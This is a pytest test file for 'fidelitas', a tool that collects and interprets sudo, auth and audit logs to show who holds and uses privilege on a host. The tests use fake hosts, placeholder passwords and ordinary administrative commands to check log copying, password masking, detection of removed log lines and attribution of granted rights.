@pytest.fixture(params=["dash", "busybox sh"])
def shell(request: pytest.FixtureRequest, need: Callable[..., None]) -> str:
    need(request.param.split()[0])
    return str(request.param)


def test_the_probe_copies_what_concerns_privilege_at_its_number(tmp_path: Path, shell: str) -> None:
    """From the places that the host's own policy and syslog name, packed or not; what it tells is what the logs themselves tell."""
    root = grow(
        tmp_path / "root", 'Defaults logfile="/srv/sudo own.log"\nDefaults logfile=/srv/sudo.log, syslog=local2\nroot ALL=(ALL) ALL\n'
    )
    lines = (SAMPLES / "auth.log").read_bytes().splitlines(keepends=True)
    mixed = b"".join(b"2026-11-23T06:18:43.000000+00:00 log01 kernel: usb 1-1: sudo reset\n" + line for line in lines)
    put(root / "etc/rsyslog.d/sudo.conf", "local2.*\t-/srv/special.log\n*.emerg :omusrmsg:*\n")
    put(root / "srv/special.log", mixed)
    put(root / "srv/sudo.log", (SAMPLES / "sudo-wrapped.log").read_bytes())
    put(root / "var/log/auth.log.2.gz", gzip.compress(mixed))
    put(root / "var/log/audit/audit.log", b"type=PATH msg=audit(1795400000.102:9): item=0\n" + (SAMPLES / "audit-raw.log").read_bytes())
    put(root / "var/log/wtmp", bytes(384))
    copied = probe(root, shell)
    assert set(copied.copies) == {
        "/srv/special.log",
        "/srv/sudo.log",
        "/var/log/auth.log.2.gz",
        "/var/log/audit/audit.log",
        "/var/log/wtmp",
    }
    assert not [gap for gap in gaps(copied) if "log" in gap]
    stated = {log.path: log for log in copied.manifest.logs}
    assert (stated["/srv/special.log"].lines, stated["/srv/special.log"].kept) == (2 * len(lines), len(lines))
    assert (stated["/srv/special.log"].begins or "").startswith("2026-11-23T06:18:43.000000+00:00")
    for path, source in (("/srv/special.log", root / "srv/special.log"), ("/var/log/audit/audit.log", root / "var/log/audit/audit.log")):
        ours: list[AttributedEvent] = []
        theirs: list[AttributedEvent] = []
        read_logbook([HostLogs(subject="knot", logs=[log for log in copied.logs() if log.path == path])], take=ours.append)
        book_of(source, take=theirs.append)
        assert [(record.event.dedup_key, record.event.place.line) for record in ours] == [
            (record.event.dedup_key, record.event.place.line) for record in theirs
        ]
        assert ours


def test_the_probe_copies_every_message_that_is_understood(tmp_path: Path, shell: str) -> None:
    """Of docs/log-forms.md, in the traditional form, that of RFC 5424 and that of busybox; of some programs what PAM says alone."""
    root = grow(tmp_path / "root", "root ALL=(ALL) ALL\n")
    lines = [
        form.format(program=program, message=message)
        for program, message, _ in DOCUMENTED
        if program not in OF_AUDIT  # it copies the audit log itself
        for form in (
            "Nov 20 06:00:00 tern {program}[7]: {message}",
            "2026-11-20T06:00:00Z tern {program} 7 - - {message}",
            "Nov 20 06:00:00 tern auth.info {program}: {message}",
            "Nov 20 06:00:00 tern {program} [7]: {message}",
        )
    ]
    put(root / "var/log/auth.log", "\n".join([*lines, "Nov 20 06:00:00 tern xrdp-sesman[7]: login failed for user hunter2", ""]))
    copied = probe(root, shell)
    (stated,) = copied.manifest.logs
    assert (stated.lines, stated.kept) == (len(lines) + 1, len(lines))
    read = lines_that_matter(block for log in copied.logs() for block in log.blocks())
    assert [line.number for line in read] == list(range(1, len(lines) + 1))


def test_logs_that_cannot_be_had_are_gaps_and_none_are_copied_where_none_are_wanted(tmp_path: Path, shell: str) -> None:
    root = grow(tmp_path / "root")
    put(root / "var/log/auth.log.1.gz", b"\x1f\x8b\x08 not gzip at all")
    put(
        root / "var/log/auth.log",
        b"2026-11-23T06:18:43+00:00 knot sudo: ines : TTY=p ; PWD=/ ; USER=root ; COMMAND=/bin/ls\nno stamp \xff\x00\n",
    )
    found = probe(root, shell)
    assert "could not be read to its end" in gaps(found)["/var/log/auth.log.1.gz"]
    assert len(read_logbook([host_logs([found])]).people.by_name) == 1
    assert fidelitas("survey", "--root", root, "--no-logs", "--no-file-scan", "--name", "knot", cwd=tmp_path).status == 0
    ran = fidelitas("usage", cwd=tmp_path)
    assert (ran.status, ran.err.count("\n")) == (2, 1)
    assert "holds no logs" in ran.err


@pytest.mark.parametrize(
    "command",
    [
        "/bin/tool --password=hunter2 x", "/bin/tool --api-key 'hun ter2' x", "/usr/bin/env PGPASSWORD=hunter2 psql", "psql postgresql://ines:hunter2@db/t",
        "/usr/bin/mysql -u root -phunter2 tides", "/usr/bin/curl -u ines:hunter2 http://x", "/usr/bin/passwd ines", "/bin/ls /root/token",
    ],
)  # fmt: skip
def test_passwords_do_not_leave_the_host(command: str, tmp_path: Path) -> None:
    """The probe masks what is masked when it is read, and nothing else."""
    root = grow(tmp_path / "root")
    put(root / "var/log/auth.log", f"2026-11-23T06:18:43+00:00 knot {sudo('ines', command)}\n")
    content = gzip.decompress(probe(root).copies["/var/log/auth.log"]).decode()
    assert content.partition("COMMAND=")[2] == masked(command) + "\n"
    assert "hunter2" not in content
    assert "ter2" not in content.replace("hunter2", "")


# -- the ledger ----------------------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def surveyed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two surveys of a host: between them a line of its log is taken out, and a rule and a membership are added."""
    folder = tmp_path_factory.mktemp("surveyed")
    root = grow(folder / "root", "root ALL=(ALL) ALL\n%sudo ALL=(ALL) ALL\n")
    log = Log()
    log.put(at(38, 9), sudo("ines", "/usr/bin/rm /etc/motd"))
    log.put(at(38, 10), sudo("rada", "/usr/bin/tcpdump", why="user NOT in sudoers ; "))
    log.put(at(38, 10.2), sudo("tomas", "/usr/bin/lsof", why="command not allowed ; "))
    log.put(at(38, 10.5), sudo("vesna", "/usr/bin/lsof -i", why="user NOT in sudoers ; "))
    log.write(root / "var/log/auth.log")
    assert fidelitas("survey", "--root", root, "--name", "knot", "--no-file-scan", cwd=folder).status == 0
    log.lines = [line for line in log.lines if "/etc/motd" not in line[1]]
    log.put(at(38, 11), sudo("ines", "/usr/sbin/usermod -aG sudo rada"))
    log.put(at(38, 11), "usermod[5]: add 'rada' to group 'sudo'")
    log.put(at(38, 12), sudo("ines", "/usr/sbin/visudo -f /etc/sudoers.d/tomas"))
    log.write(root / "var/log/auth.log")
    put(root / "etc/group", (root / "etc/group").read_text().replace("sudo:x:27:ines", "sudo:x:27:ines,rada"))
    put(
        root / "etc/sudoers", "root ALL=(ALL) ALL\n%sudo ALL=(ALL) ALL\n@includedir /etc/sudoers.d\nvesna ALL=(root) /usr/bin/lsof\n", 0o440
    )
    put(root / "etc/sudoers.d/tomas", "tomas ALL=(root) /usr/bin/lsof\n", 0o440)
    assert fidelitas("survey", "--root", root, "--name", "knot", "--no-file-scan", cwd=folder).status == 0
    return folder


def asked(folder: Path, *arguments: str) -> Ran:
    return fidelitas(*arguments, cwd=folder, env={"TZ": "UTC"})


def test_logs_that_were_collected_twice_are_told_once_and_what_is_gone_is_found(surveyed: Path) -> None:
    document = asked(surveyed, "usage", "--events", "--format", "json").json
    check_schema("usage", document)
    commands = [event["command"] for event in document["events"] if event["command"]]
    assert commands.count("/usr/bin/tcpdump") == 1
    assert commands.count("/usr/bin/rm /etc/motd") == 1  # the earlier survey has it
    (gone,) = [finding for finding in document["findings"] if finding["check"] == "logs.lines-removed"]
    assert "1 lines that an earlier survey read are gone, the first about ines: /usr/bin/rm /etc/motd" in gone["message"]
    listed = asked(surveyed, "findings", "logs", "--format", "json").json["findings"]
    assert "logs.lines-removed" in [finding["check"] for finding in listed]


def test_since_when_and_by_whom_a_right_is_held(surveyed: Path) -> None:
    text = asked(surveyed, "why", "rada").out
    assert (
        "since 2026-10-15 11:00 UTC by ines, likely: the person ran the command that did it; added to the group (/var/log/auth.log:" in text
    )
    document = asked(surveyed, "why", "rada", "--format", "json").json
    check_schema("why", document)
    since = [link["since"] for holding in document["holdings"] for route in holding["routes"] for link in route["links"]]
    assert {person for one in since if one for person in one["persons"]} == {"ines"}
    assert "2026-10-15 ines" in asked(surveyed, "holders", "--account", "rada").out
    held = asked(surveyed, "why", "tomas", "--format", "json").json["holdings"]
    (tomas,) = [holding["routes"][0]["links"][0]["since"] for holding in held if holding["right"] == "command:/usr/bin/lsof"]
    assert (tomas["persons"], tomas["what"]) == (["ines"], "/usr/sbin/visudo -f /etc/sudoers.d/tomas")


def test_a_refusal_is_explained(surveyed: Path) -> None:
    document = asked(surveyed, "usage", "--against-policy", "--survey", newest(surveyed), "--format", "json").json
    check_schema("replay", document)
    why = {use["account"]: " ".join(use["why"]) for use in document["subjects"][0]["refused"]}
    assert why["rada"] == "no rule is about rada ines, 2026-10-15 11:00 UTC, put rada into sudo: the membership came later"
    assert why["tomas"] == "no rule is about tomas ines, 2026-10-15 12:00 UTC, edited /etc/sudoers.d/tomas: the rule may have come later"
    assert "differs" not in why["vesna"]


def newest(folder: Path) -> str:
    return str(asked(folder, "ledger", "info", "--format", "json").json["surveys"][-1]["name"])


def test_a_new_policy_is_put_to_the_logs_of_the_ledger(surveyed: Path) -> None:
    put(surveyed / "new", "root ALL=(ALL) ALL\n%sudo ALL=(ALL) /usr/bin/apt\n")
    document = asked(surveyed, "rehearse", "--policy", "new", "--format", "json").json
    refused = {use["command"] for use in document["replay"][0]["used"] if use["decision"] != "allowed"}
    assert "/usr/sbin/visudo -f /etc/sudoers.d/tomas" in refused
    assert ("ines", "/usr/bin/apt update") not in {
        (use["account"], use["command"]) for use in document["replay"][0]["used"] if use["decision"] != "allowed"
    }


# -- what is asked for ---------------------------------------------------------------------------------------------------------------


def test_filters_forms_and_times(tmp_path: Path) -> None:
    log = Log().put(NIGHT, sudo("ines", "/usr/bin/apt full-upgrade")).write(tmp_path / "auth.log")
    base = ("usage", "--log", str(log), "--events")

    def rows(*arguments: str, zone: str = "UTC") -> list[str]:
        return fidelitas(*base, "--format", "csv", *arguments, cwd=tmp_path, env={"TZ": zone}).out.splitlines()[1:]

    assert len(rows()) == 91
    assert len(rows("--person", "rada")) == 30
    assert len(rows("--command", "full-upgrade")) == 1
    assert len(rows("--host", "KNOT.saltmarsh.example")) == 91
    assert not rows("--host", "tern")
    assert len(rows("--since", "2026-10-13", "--until", "2026-10-14")) == 4
    assert rows("--command", "full", zone="Asia/Tokyo")[0].startswith("2026-10-13 11:30:00")
    lines = fidelitas(*base, "--format", "jsonl", "--command", "full", cwd=tmp_path).out.splitlines()
    assert [json.loads(line)["time"] for line in lines] == ["2026-10-13T02:30:00+00:00"]
    ran = fidelitas("usage", "--log", log, "--since", "the other day", cwd=tmp_path)
    assert (ran.status, ran.err.count("\n")) == (2, 1)


@pytest.mark.parametrize(
    ("text", "meant"),
    [
        ("today", "2026-11-18T00:00"), ("yesterday", "2026-11-17T00:00"), ("last monday", "2026-11-16T00:00"),
        ("Wednesday", "2026-11-11T00:00"), ("7d", "2026-11-11T14:30"), ("12h", "2026-11-18T02:30"), ("2026-11-01", "2026-11-01T00:00"),
    ],
)  # fmt: skip
def test_relative_times(text: str, meant: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TZ", "Europe/Lisbon")
    time.tzset()
    now = datetime(2026, 11, 18, 14, 30, tzinfo=UTC)  # a Wednesday
    found = time_of(text, now)
    monkeypatch.undo()
    time.tzset()
    assert found == datetime.fromisoformat(meant).replace(tzinfo=UTC)


def test_a_file_that_is_no_log_is_told_as_such(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_bytes(b"garbage\x00\xff\n")
    ran = fidelitas("usage", "--log", "notes.txt", cwd=tmp_path)
    assert (ran.status, ran.err) == (3, "fidelitas: no line that concerns privilege was recognised in notes.txt\n")
    assert ran.out.startswith("0 events in 1 log of 1 host, in which no line that concerns privilege was recognised\n")


def test_records_of_logins_alone_are_recognised(tmp_path: Path) -> None:
    """They have no lines by which a log is known to be written steadily, and tell of logins all the same (utmp(5))."""
    record = struct.pack("<hxxi32s4s32s256shhiii4I20x", 7, 99, b"pts/0", b"ts/0", b"ines", b"192.0.2.1", 0, 0, 0, 1764500000, 0, 0, 0, 0, 0)
    (tmp_path / "wtmp").write_bytes(record)
    ran = fidelitas("usage", "--log", "wtmp", cwd=tmp_path)
    assert (ran.status, ran.err) == (0, "")
    assert ran.out.startswith("1 event in 1 log of 1 host\n")


def test_figures_are_drawn_and_are_the_same_twice(tmp_path: Path) -> None:
    log = Log().write(tmp_path / "auth.log")
    for name in ("one", "two"):
        assert fidelitas("usage", "--log", log, "--figures", name, cwd=tmp_path, env={"TZ": "UTC"}).status == 0
    drawn = sorted(path.name for path in (tmp_path / "one").iterdir())
    assert drawn == ["failures.png", "failures.svg", "use-by-hour.png", "use-by-hour.svg"]
    for name in drawn:
        assert (tmp_path / "one" / name).read_bytes() == (tmp_path / "two" / name).read_bytes()
    assert (tmp_path / "one/use-by-hour.png").read_bytes().startswith(b"\x89PNG")


def test_a_session_that_nothing_closes_is_told_as_such(tmp_path: Path) -> None:
    log = Log(everyday=False).put(at(1, 9), sudo("ines", "/bin/bash", terminal="pts/3"))
    log.put(at(1, 9.5), sudo("root", "/usr/bin/id", "rada", terminal="pts/3")).put(
        at(5, 9.5), sudo("root", "/usr/bin/id", "rada", terminal="pts/3")
    )
    records: list[AttributedEvent] = []
    (session,) = book_of(log.write(tmp_path / "auth.log"), take=records.append).hosts["knot"].sessions
    assert (session.person, session.closed, session.records) == ("ines", None, 1)
    assert [record.persons for record in records] == [
        ("ines",),
        ("ines",),
        (),
    ]  # after two days a shell speaks for nobody
    out = fidelitas("usage", "--log", tmp_path / "auth.log", "--sessions", cwd=tmp_path).out
    assert "never closed" in out


@pytest.mark.parametrize("numbered", [True, False])
def test_people_who_use_sudo_in_one_second_are_told_apart(tmp_path: Path, numbered: bool) -> None:
    """By the process where it is logged, by the account that PAM names where it is not; never by who came last."""
    log, moment = Log(everyday=False), timedelta(milliseconds=100)
    for step, (who, what) in enumerate((
        ("ines", "ines : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/bash"),
        ("rada", "rada : TTY=pts/2 ; PWD=/ ; USER=root ; COMMAND=/bin/zsh"),
        ("rada", "pam_unix(sudo:session): session opened for user root(uid=0) by {}(uid={})"),
        ("ines", "pam_unix(sudo:session): session opened for user root(uid=0) by {}(uid={})"),
    )):  # fmt: skip
        number = f"[{10 + (who == 'rada')}]"
        by = ("", 0) if numbered else (who, 1001 if who == "ines" else 1002)
        log.put(at(1) + step * moment, f"sudo{number if numbered else ''}: " + what.format(*by))
    if numbered:
        log.put(at(1, 1), "sudo[10]: pam_unix(sudo:session): session closed for user root")
        log.put(at(1, 2), "sudo[11]: pam_unix(sudo:session): session closed for user root")
    records: list[AttributedEvent] = []
    sessions = book_of(log.write(tmp_path / "auth.log"), take=records.append).hosts["knot"].sessions
    assert [record.persons for record in records[:4]] == [("ines",), ("rada",), ("rada",), ("ines",)]
    shells = {one.person: (one.command, one.terminal, one.closed and round(one.closed.timestamp() - at(1).timestamp())) for one in sessions}
    assert shells == {
        "ines": ("/bin/bash", "pts/1", 3600 if numbered else None),
        "rada": ("/bin/zsh", "pts/2", 7200 if numbered else None),
    }
    assert len(sessions) == 2


def test_a_sub_command_in_the_first_hundredth_of_a_second_is_one(tmp_path: Path) -> None:
    """sudo 1.9.13 leaves the time within the session out there; the same number an hour later is another session's."""
    line = "Nov 2{} {} : ines : PWD=/ ; USER=root ; TSID={} ; COMMAND={}\n"
    rows = [(1, "03:13:14", "02", "/bin/bash -i"), (1, "03:13:14", "02", "/usr/bin/id"), (1, "03:13:15", "02@0.90", "/usr/bin/id -u")]
    rows += [(1, "03:13:16", "000002@1.20", "/bin/bash -i ; EXIT=0"), (1, "04:13:14", "02", "/bin/bash -i")]
    (tmp_path / "sudo.log").write_text("".join(line.format(*row) for row in rows))
    events = fidelitas("usage", "--log", tmp_path / "sudo.log", "--events", "--format", "json", cwd=tmp_path).json["events"]
    assert [(event["kind"], event["within_session"]) for event in events] == [
        ("used", False), ("used", True), ("used", True), ("session closed", False), ("used", False),
    ]  # fmt: skip


AUDITED = 'type=USER_CMD msg=audit(1793512800.105:102): pid=501 uid=1001 auid=1001 ses=4 msg=\'cwd="/" cmd="id" exe="/usr/bin/sudo" terminal=pts/0 res=success\'\n'
USED = "2026-11-01T06:00:00+00:00 {} sudo:     rada : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=id\n"


@pytest.mark.parametrize(
    ("hosts", "options", "expected"),
    [
        (["knot.saltmarsh.example"], [], [("knot.saltmarsh.example", ["rada"])]),
        (["knot", "tern"], [], [("", ["#1001"]), ("knot", ["rada"]), ("tern", ["rada"])]),
        (["knot", "tern"], ["--name", "tern"], [("knot", ["rada"]), ("tern", ["rada"])]),
        ([], [], [("", ["#1001"])]),
    ],
)
def test_logs_that_name_no_host_are_of_the_one_that_the_others_name(
    hosts: list[str], options: list[str], expected: list[tuple[str, list[str]]], tmp_path: Path
) -> None:
    """An audit log beside syslog of one host: one use; of several it is not known whose it is, unless someone says so."""
    (tmp_path / "audit.log").write_text(AUDITED)
    (tmp_path / "auth.log").write_text("".join(map(USED.format, hosts)))
    ran = fidelitas("usage", "--log", ".", "--events", "--format", "json", *options, cwd=tmp_path)
    assert sorted((one["host"], one["persons"]) for one in ran.json["events"]) == expected
